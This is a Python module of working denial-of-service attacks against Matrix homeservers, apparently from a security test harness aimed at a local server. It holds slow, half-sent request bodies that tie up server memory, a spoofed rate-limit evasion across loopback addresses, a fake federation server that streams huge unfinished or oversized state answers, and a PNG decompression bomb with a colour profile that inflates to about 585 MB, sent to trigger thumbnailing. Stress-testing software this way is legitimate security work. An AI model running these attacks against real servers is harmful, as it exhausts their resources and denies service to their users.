"""Attacks by what is held in memory while it is in progress."""

import asyncio
import collections
import contextlib
import itertools
import ssl
import struct
import urllib.parse
import zlib

from .base import Attack, attack
from .wire import V1, V3, canonical

BLOCK = b"x" * (1 << 18)


class HalfBodies(Attack):
    """Very many bodies that are sent but for their end, and then at a byte a second."""

    COUNT = 900
    SIZE = 0
    # So many connections are made at a time.
    OPENING = 64
    is_kept = False

    def head(self, number):
        raise NotImplementedError

    async def open(self, number):
        raise NotImplementedError

    async def run(self):
        self.tally.phase("sending")
        opening = asyncio.Semaphore(self.OPENING)
        self.held = self.ended = self.refused = 0
        hold = asyncio.get_running_loop().time() + self.options.seconds + 10
        await asyncio.gather(*(self.one(number, opening, hold) for number in range(self.scaled(self.COUNT, 4))))
        self.tally.note(f"{self.held} bodies were held to the end, {self.ended} were ended by the server before")

    async def one(self, number, opening, hold):
        loop, writer = asyncio.get_running_loop(), None
        try:
            async with opening:
                async with asyncio.timeout(30):
                    reader, writer = await self.open(number)
                self.tally.requests += 1
                head = self.head(number)
                writer.write(head + b'{"x":"')
                left = self.SIZE - 4096
            # An answer before the end of the body is a refusal.
            answer = asyncio.create_task(reader.read(4096))
            while left > 0 and not answer.done() and loop.time() < hold:
                part = BLOCK[:left]
                writer.write(part)
                await asyncio.wait({asyncio.create_task(writer.drain()), answer}, timeout=max(0, hold - loop.time()),
                                   return_when=asyncio.FIRST_COMPLETED)
                left -= len(part)
                self.tally.sent += len(part)
            if left <= 0:
                self.tally.statuses["sent"] += 1
            while loop.time() < hold and not answer.done():
                writer.write(b"x")
                self.tally.sent += 1
                await asyncio.wait({answer}, timeout=1)
            if answer.done():
                said = b"" if answer.exception() else answer.result()
                self.ended += 1
                self.tally.statuses[said.split(b" ")[1].decode() if said.startswith(b"HTTP/") else "closed"] += 1
            else:
                self.held += 1
                answer.cancel()
        except (OSError, ssl.SSLError, TimeoutError, asyncio.IncompleteReadError) as error:
            self.ended += 1
            self.tally.statuses[type(error).__name__] += 1
        finally:
            if writer:
                writer.transport.abort()


@attack("half-bodies")
class OfHomeservers(HalfBodies):
    """Transactions that nobody has signed, on the listener for homeservers."""

    SIZE = 8 << 20

    async def open(self, _):
        return await self.origin.line.open()

    def head(self, number):
        return (f"PUT {V1}/send/half{number} HTTP/1.1\r\nHost: {self.origin.target}\r\n"
                f"Content-Type: application/json\r\nContent-Length: {self.SIZE}\r\n\r\n").encode()


@attack("half-bodies-client")
class OfClients(HalfBodies):
    """Registrations, on the listener for clients, so few from each address that their rate is not limited."""

    SIZE = 1_900_000
    OF_ADDRESS = 20

    async def open(self, number):
        address = f"127.0.2.{1 + number // self.OF_ADDRESS % 250}"
        return await asyncio.open_connection("127.0.0.1", self.world.client_port, local_addr=(address, 0))

    def head(self, _):
        return (f"POST {V3}/register HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Content-Length: {self.SIZE}\r\n\r\n").encode()


@attack("half-answers")
class HalfAnswers(Attack):
    """Events after unknown ones, and answers about the state there that stop short of their end: every other one as
    large as it may be, and the others, which say that they are larger, refused unread."""

    SIZES = 23 << 20, 60 << 20
    is_kept = False

    async def prepare(self):
        room, _ = await self.public_room()
        self.events, self.unknown, self.begun, self.whole = [], {}, 0, 0
        for number in range(self.scaled(60, 2)):
            before, event = room.message(f"unknown {number}", [room.join_id], room.depth + 1)
            self.unknown[before] = event
            self.events.append(room.message(f"after {number}", [before], room.depth + 2)[1])
        self.origin.on(room.asked("get_missing_events"), lambda *_: (200, {"events": []}))
        self.origin.on("/federation/v1/event/", self.event)
        self.origin.on(room.asked("state_ids"), lambda *_: self.half)

    def event(self, _, path, __):
        wanted = urllib.parse.unquote(path.split("?")[0].rpartition("/")[2])
        if wanted not in self.unknown:
            return 404, {"errcode": "M_NOT_FOUND", "error": "no such event"}
        return 200, (b'{"origin":' + canonical(self.origin.name) + b',"origin_server_ts":1,"pdus":['
                     + self.unknown[wanted] + b"]}")

    async def half(self, writer):
        size = self.SIZES[self.begun % len(self.SIZES)]
        self.begun += 1
        writer.write(f"HTTP/1.1 200 x\r\nContent-Type: application/json\r\nContent-Length: {size + 999}\r\n\r\n"
                     .encode())
        one = b'"$' + b"x" * 43 + b'",'
        block = one * (len(BLOCK) // len(one))
        writer.write(b'{"auth_chain_ids":[],"pdu_ids":[')
        left = size
        while left > 0:
            # What is written to a connection that has ended is lost without an error.
            if writer.transport.is_closing():
                return
            part = block[:left]
            writer.write(part)
            await writer.drain()
            left -= len(part)
            self.tally.sent += len(part)
        self.whole += 1
        for _ in range(900):
            await asyncio.sleep(1)
            writer.write(b" ")
            await writer.drain()

    async def run(self):
        self.tally.phase("answering")
        try:
            async with asyncio.timeout(self.options.seconds + 20):
                await asyncio.gather(*(self.origin.transact(self.tally, [event]) for event in self.events))
        except TimeoutError:
            self.tally.note("transactions were still in progress at the end")
        self.tally.note(f"{self.begun} answers begun, {self.whole} sent to their last part")


@attack("whole-states")
class WholeStates(Attack):
    """Events after unknown ones, and whole answers about the state there, as large as they may be: first the ids, of
    which hardly any is known, and then all events."""

    BYTES = 60 << 20
    IDS = 23 << 20

    async def prepare(self):
        room, _ = await self.public_room()
        self.events = [room.message(f"after {number}", ["$" + f"unknown{number:02}".ljust(43, "x")], room.depth + 9)[1]
                       for number in range(self.scaled(12, 2))]
        # The same state each time: what it costs a second time counts, too.
        ids, state, size, number = [], [canonical(event) for event in room.state], 0, 0
        while size < self.BYTES * self.scale:
            event_id, event = room.membership(self.origin.user(f"m{number}"), [room.join_id], room.depth + 1)
            ids.append(event_id)
            state.append(event)
            size, number = size + len(event) + 1, number + 1
        more = int(self.IDS * self.scale / 47) - len(ids)
        ids += ("$" + f"made-up-{number}".ljust(43, "x") for number in range(max(0, more)))
        ids = canonical(ids)
        half, state = len(state) // 2, state[::-1]
        listed = lambda events: b"[" + b",".join(events) + b"]"
        self.ids = b'{"auth_chain_ids":[],"pdu_ids":' + ids + b"}"
        self.state = b'{"auth_chain":' + listed(state[:half]) + b',"pdus":' + listed(state[half:]) + b"}"
        self.given = collections.Counter()
        self.origin.on(room.asked("get_missing_events"), lambda *_: (200, {"events": []}))
        self.origin.on(room.asked("state_ids"), lambda *_: self.give("lists of ids", self.ids))
        self.origin.on(room.asked("state"), lambda *_: self.give("states", self.state))

    def give(self, what, answer):
        self.given[what] += 1
        self.tally.sent += len(answer)
        return 200, answer

    async def run(self):
        self.tally.phase("answering")
        try:
            async with asyncio.timeout(self.options.limit):
                await asyncio.gather(*(self.origin.transact(self.tally, [event]) for event in self.events))
        except TimeoutError:
            self.tally.note("transactions were still in progress at the end")
        self.tally.note(", ".join(f"{count} {what}" for what, count in self.given.items()))


@attack("icc")
class Icc(Attack):
    """Pictures with a colour profile that inflates very much, of which thumbnails are asked."""

    INFLATED = 585_000_000

    async def prepare(self):
        self.mallory = await self.account("mallory")
        packer, packed = zlib.compressobj(9), []
        zeros = bytes(1 << 20)
        for _ in range(max(1, round(self.INFLATED * self.scale / len(zeros)))):
            packed.append(packer.compress(zeros))
        packed.append(packer.flush())
        profile = b"".join(packed)
        chunk = lambda kind, body: struct.pack(">I", len(body)) + kind + body \
            + struct.pack(">I", zlib.crc32(kind + body))
        side = 1200
        rows = b"".join(b"\x00" + bytes(side * 3) for _ in range(side))
        self.picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)) \
            + chunk(b"iCCP", b"profile\x00\x00" + profile) + chunk(b"IDAT", zlib.compress(rows)) \
            + chunk(b"IEND", b"")
        self.tally.note(f"a picture of {len(self.picture) / 1e3:.0f} KB")

    async def run(self):
        self.tally.phase("pictures")
        for _ in range(4):
            if self.tally.over():
                return
            status, answer = await self.mallory.ask(
                self.tally, "POST", "/_matrix/media/v3/upload", self.picture, content_type="image/png")
            self.tally.statuses[f"upload {status}"] += 1
            if status != 200:
                self.tally.outcomes[answer[:120].decode(errors="replace")] += 1
                return
            media = answer.split(b"mxc://")[1].split(b'"')[0].decode()
            sizes = itertools.islice(itertools.product((32, 96, 320, 640), ("scale", "crop")), 4)

            async def thumbnail(size, method):
                path = (f"/_matrix/client/v1/media/thumbnail/{media}?width={size}&height={size}"
                        f"&method={method}")
                with contextlib.suppress(OSError):
                    status, answer = await self.mallory.ask(self.tally, "GET", path)
                    self.tally.answered += len(answer)
                    self.tally.statuses[f"thumbnail {status}"] += 1
            await asyncio.gather(*(thumbnail(*of) for of in sizes))
